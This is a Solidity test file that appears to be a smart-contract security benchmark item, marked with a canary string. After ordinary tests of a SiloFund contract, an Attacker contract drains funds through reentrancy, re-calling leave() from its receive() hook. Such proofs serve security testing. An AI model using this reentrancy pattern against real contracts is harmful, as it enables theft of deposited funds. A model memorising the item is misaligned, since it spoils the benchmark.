// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./SiloFund.sol";

// assay-canary-2512af6f-2b04-4e0f-ac6d-f3fb1ef40e27

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1_700_000_000;

    SiloFund private fund;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        vm.deal(address(this), 30 ether);
        fund = new SiloFund{value: 0.001 ether}();
        vm.deal(ANA, 60 ether);
        vm.deal(BEN, 60 ether);
        vm.prank(ANA);
        fund.join{value: 55 ether}();
        vm.prank(BEN);
        fund.join{value: 45 ether}();
        mallory = new Attacker(fund);
        vm.deal(address(mallory), 100 ether);
    }

    function test_Regular() public {
        require(fund.partsOf(ANA) == 55 ether && fund.capital() == 100.001 ether, "joined");
        fund.rent{value: 10.0001 ether}();
        vm.warp(START + 30 days);
        vm.prank(ANA);
        fund.leave(20 ether);
        require(ANA.balance == 27 ether && fund.partsOf(ANA) == 35 ether, "left with a tenth more");
        vm.prank(BEN);
        fund.join{value: 11 ether}();
        require(fund.partsOf(BEN) == 55 ether, "fewer parts");
        vm.prank(ANA);
        fund.leave(35 ether);
        require(ANA.balance == 65.5 ether && fund.parts() == 55.001 ether && fund.capital() == 60.5011 ether, "all gone");
        fund.transferOwnership(ANA);
        vm.prank(ANA);
        fund.renounceOwnership();
    }

    function test_RefusesFarmers() public {
        vm.expectRevert("seed first");
        new SiloFund{value: 0.002 ether}();
        vm.expectRevert(abi.encodeWithSelector(SiloFund.TooFew.selector, 0));
        fund.join();
        vm.startPrank(ANA);
        vm.expectRevert("Ownable: caller is not the owner");
        fund.rent{value: 1}();
        vm.warp(START + 30 days - 1);
        vm.expectRevert(abi.encodeWithSelector(SiloFund.TooEarly.selector, START + 30 days));
        fund.leave(1 ether);
        vm.warp(START + 30 days);
        vm.expectRevert(abi.encodeWithSelector(SiloFund.TooFew.selector, 0));
        fund.leave(0);
        vm.expectRevert(abi.encodeWithSelector(SiloFund.TooFew.selector, 55 ether + 1));
        fund.leave(55 ether + 1);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.join();
        vm.warp(START + 30 days);
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 110 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(fund);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    SiloFund private fund;
    bool private again;

    constructor(SiloFund f) {
        fund = f;
    }

    function join() external {
        fund.join{value: 100 ether}();
    }

    function run() external {
        again = true;
        fund.leave(50 ether);
    }

    receive() external payable {
        if (again) {
            again = false;
            fund.leave(50 ether);
        }
    }
}
